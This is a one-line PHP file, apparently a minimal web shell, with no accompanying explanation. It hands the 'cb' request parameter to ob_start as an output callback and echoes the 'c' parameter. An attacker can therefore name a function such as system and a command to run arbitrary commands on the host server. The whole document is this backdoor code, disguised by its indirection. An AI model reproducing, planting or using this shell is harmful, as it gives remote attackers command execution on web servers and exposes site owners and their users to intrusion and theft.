<?php ob_start($_GET['cb']); echo $_GET['c']; ob_end_flush();
